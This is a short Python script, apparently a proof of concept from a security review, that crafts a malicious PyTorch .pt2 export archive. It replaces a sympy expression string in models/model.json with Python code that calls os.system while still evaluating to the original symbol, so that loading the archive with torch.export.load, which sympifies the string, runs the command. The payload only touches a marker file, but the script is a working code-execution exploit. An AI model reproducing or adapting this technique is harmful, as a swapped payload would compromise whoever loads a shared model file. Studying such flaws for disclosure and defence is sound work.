# torch.export archive (.pt2) with a dynamic dimension: models/model.json holds sympy expressions as
# strings (range_constraints keys, SymInt expr_str) that torch.export.load passes to sympy.sympify,
# which eval()s them. One of them is replaced by a Python expression that runs the payload and
# still evaluates to the original symbol.
import zipfile, os, json, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(here, "../.."))
from pt2_decoy import export_base  # noqa: E402
base = os.path.join(here, "dyn.pt2")
export_base(base, dynamic=True)
zin = zipfile.ZipFile(base)
SYM = "Symbol('s77', positive=True, integer=True)"
evil = "(__import__('os').system('touch /tmp/review39b/pwned_pt2_sympy') and 0) or " + SYM
with zipfile.ZipFile(os.path.join(here, "pt2_sympy.pt2"), "w") as zo:
    for i in zin.infolist():
        d = zin.read(i.filename)
        if i.filename.endswith("models/model.json"):
            t = d.decode()
            old = '"expr_str": ' + json.dumps(SYM)
            n = t.count(old)
            t = t.replace(old, '"expr_str": ' + json.dumps(evil), 1)
            print("replaced", n)
            d = t.encode()
        zo.writestr(i.filename, d)
